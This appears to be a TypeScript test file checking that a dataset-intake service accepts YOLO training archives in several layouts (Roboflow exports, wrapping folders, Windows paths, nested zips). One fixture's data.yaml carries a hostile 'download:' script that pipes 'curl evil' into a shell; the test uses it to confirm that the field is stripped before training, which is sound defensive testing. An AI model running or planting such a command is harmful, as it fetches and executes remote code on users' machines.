import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, describe, it } from "node:test";
import type { DatasetInfo, DatasetSplits } from "@trainyard/contracts";
import { extractZip, normalisedDataYaml } from "@trainyard/runtime";
import { intakeDataset } from "./dataset-intake.js";
import { assertNothingLeft, firstDelivery, intakeHarness } from "./testing/intake-harness.js";
import { trainRequested } from "./testing/train-request.js";
import { datasetZip, jpegHeader, png, SAMPLE_INFO, sampleDataset, type DatasetFiles } from "./testing/yolo-fixture.js";
import { rawZip } from "./testing/zip-writer.js";

const scratch = await mkdtemp(join(tmpdir(), "valid-layouts-"));
after(() => rm(scratch, { recursive: true, force: true }));

function omit(files: DatasetFiles, ...names: string[]): DatasetFiles {
  return Object.fromEntries(Object.entries(files).filter(([name]) => !names.includes(name)));
}

const CLASSIC = { train: ["images/train"], val: ["images/val"] };
/** Roboflow's YOLOv8 export: split folders holding images/ and labels/, `../` paths in data.yaml. */
const roboflow = (yaml: string): DatasetFiles => ({
  "data.yaml": yaml,
  "README.roboflow.txt": "exported from roboflow",
  "train/images/a.jpg": jpegHeader(),
  "train/images/b.jpg": jpegHeader(),
  "train/labels/a.txt": "0 0.5 0.5 0.2 0.2\n1 0.25 0.25 0.1 0.1\n",
  "train/labels/b.txt": "0 0.5 0.5 1 1\n",
  "valid/images/c.jpg": jpegHeader(),
  "valid/labels/c.txt": "0 0.4 0.6 0.3 0.3\n",
  "test/images/d.jpg": jpegHeader(),
  "test/labels/d.txt": "1 0.4 0.6 0.3 0.3\n",
});
const ROBOFLOW_SPLITS = { train: ["train/images"], val: ["valid/images"], test: ["test/images"] };

interface Layout {
  name: string;
  archive: Buffer;
  root: string;
  splits: DatasetSplits;
  info: DatasetInfo;
}

const layouts: Layout[] = [
  {
    name: "images/ and labels/ at the archive root",
    archive: datasetZip(sampleDataset()),
    root: "",
    splits: CLASSIC,
    info: SAMPLE_INFO,
  },
  {
    name: "one wrapping folder, with macOS metadata beside it",
    archive: rawZip([
      ...Object.entries(sampleDataset()).map(([name, data]) => ({ name: `poste-dataset/${name}`, data })),
      { name: "__MACOSX/poste-dataset/._data.yaml", data: "junk" },
      { name: "poste-dataset/images/train/.DS_Store", data: "junk" },
    ]),
    root: "poste-dataset",
    splits: CLASSIC,
    info: SAMPLE_INFO,
  },
  {
    name: "Roboflow's export with ../ paths",
    archive: datasetZip(
      roboflow("train: ../train/images\nval: ../valid/images\ntest: ../test/images\nnc: 2\nnames: ['poste', 'cabo']\n"),
    ),
    root: "",
    splits: ROBOFLOW_SPLITS,
    info: SAMPLE_INFO,
  },
  {
    name: "Roboflow's newer export with plain paths, in a wrapping folder",
    archive: datasetZip(
      roboflow("train: train/images\nval: valid/images\ntest: test/images\nnames: [poste, cabo]\n"),
      "export",
    ),
    root: "export",
    splits: ROBOFLOW_SPLITS,
    info: SAMPLE_INFO,
  },
  {
    name: "names as a mapping, an absolute path: from Colab and a download: script",
    archive: datasetZip({
      ...sampleDataset(),
      "data.yaml":
        "path: /content/datasets/poste\ntrain: images/train\nval: images/val\nnames:\n  0: poste\n  1: cabo\ndownload: |\n  import os; os.system('curl evil | sh')\n",
    }),
    root: "",
    splits: CLASSIC,
    info: SAMPLE_INFO,
  },
  {
    name: "no train/val entries: the conventional folders are used",
    archive: datasetZip({ ...sampleDataset(), "data.yaml": "nc: 2\nnames: [poste, cabo]\n" }),
    root: "",
    splits: CLASSIC,
    info: SAMPLE_INFO,
  },
  {
    name: "backslash separators, as Windows' Compress-Archive writes them",
    archive: rawZip(Object.entries(sampleDataset()).map(([name, data]) => ({ name: name.replace(/\//g, "\\"), data }))),
    root: "",
    splits: CLASSIC,
    info: SAMPLE_INFO,
  },
  {
    name: "stored entries and data descriptors, as streaming zip writers make them",
    archive: rawZip(
      Object.entries(sampleDataset()).map(([name, data], i) => ({
        name,
        data,
        method: i % 2 ? 0 : 8,
        descriptor: true,
      })),
    ),
    root: "",
    splits: CLASSIC,
    info: SAMPLE_INFO,
  },
  {
    name: "sub-folders, upper-case extensions, background images, polygons, CRLF and a BOM",
    archive: datasetZip({
      ...omit(sampleDataset(), "images/train/a.png", "labels/train/a.txt"),
      "images/train/site1/A.PNG": png(),
      "labels/train/site1/A.txt": "\uFEFF0 0.5 0.5 0.2 0.2\r\n1 0.1 0.1 0.3 0.1 0.3 0.3 0.1 0.3\r\n",
      "images/train/site1/background.jpeg": jpegHeader(),
      "images/train/notes.md": "not an image: ignored",
    }),
    root: "",
    splits: CLASSIC,
    info: { ...SAMPLE_INFO, total_images: 4, train_images: 3 },
  },
  {
    name: "several train folders, and a nested archive that is not opened",
    archive: datasetZip({
      ...sampleDataset(),
      "data.yaml": "train: [images/train, images/extra]\nval: images/val\nnames: [poste, cabo]\n",
      "images/extra/e.png": png(),
      "labels/extra/e.txt": "1 0.5 0.5 0.5 0.5\n",
      "images/extra/more.zip": datasetZip({
        "images/train/hidden.png": png(),
        "labels/train/hidden.txt": "0 0.5 0.5 0.1 0.1\n",
      }),
    }),
    root: "",
    splits: { train: ["images/train", "images/extra"], val: ["images/val"] },
    info: { ...SAMPLE_INFO, total_images: 4, train_images: 3, class_distribution: { poste: 3, cabo: 2 } },
  },
];

describe("valid dataset layouts", () => {
  it(`covers at least 8 layouts (${layouts.length})`, () => assert.ok(layouts.length >= 8));

  for (const layout of layouts) {
    it(`accepts ${layout.name}`, async () => {
      const h = await intakeHarness(scratch, layout.archive);
      const request = trainRequested("https://storage.example.com/d.zip?token=t");
      assert.deepEqual(await intakeDataset(request, firstDelivery, h.deps), { kind: "ack" });
      const failed = h.events.find((e) => e.event.type === "failed");
      assert.equal(failed, undefined, `expected no failure, got ${JSON.stringify(failed?.event)}`);
      const ready = h.ready[0]?.ready;
      assert.ok(ready, "train.dataset.ready was published");
      assert.equal(ready.dataset_root, layout.root);
      assert.deepEqual(ready.dataset_splits, layout.splits);
      assert.deepEqual(ready.dataset_info, layout.info);
      assert.equal(ready.dataset_object, `sha256/${ready.dataset_sha256}.zip`);
      await assertNothingLeft(h);

      // what an agent does with the same archive: extract it and write data.yaml from the record
      const zip = join(h.sandbox, "agent.zip");
      await writeFile(zip, layout.archive);
      const dir = join(h.sandbox, "agent");
      await extractZip(zip, dir);
      const yaml = normalisedDataYaml(join(dir, ready.dataset_root), layout.splits, ready.dataset_info.classes);
      assert.equal(yaml.download, undefined, "download: never reaches the trainer");
      for (const key of ["train", "val", "test"] as const) {
        const paths = yaml[key] === undefined ? [] : ([] as string[]).concat(yaml[key] as string | string[]);
        for (const path of paths) assert.ok(existsSync(path), `${key} folder ${path} exists on the agent`);
      }
      assert.deepEqual(yaml.names, layout.info.classes);
    });
  }

  it("writes the nested archive as a plain file without opening it", async () => {
    const archive = layouts.at(-1)!.archive;
    const zip = join(scratch, "nested.zip");
    await writeFile(zip, archive);
    const dir = join(scratch, "nested");
    await extractZip(zip, dir);
    assert.ok(existsSync(join(dir, "images/extra/more.zip")));
    assert.deepEqual(
      (await readdir(join(dir, "images/train"))).sort(),
      ["a.png", "b.jpg"],
      "hidden.png stays inside more.zip",
    );
  });
});
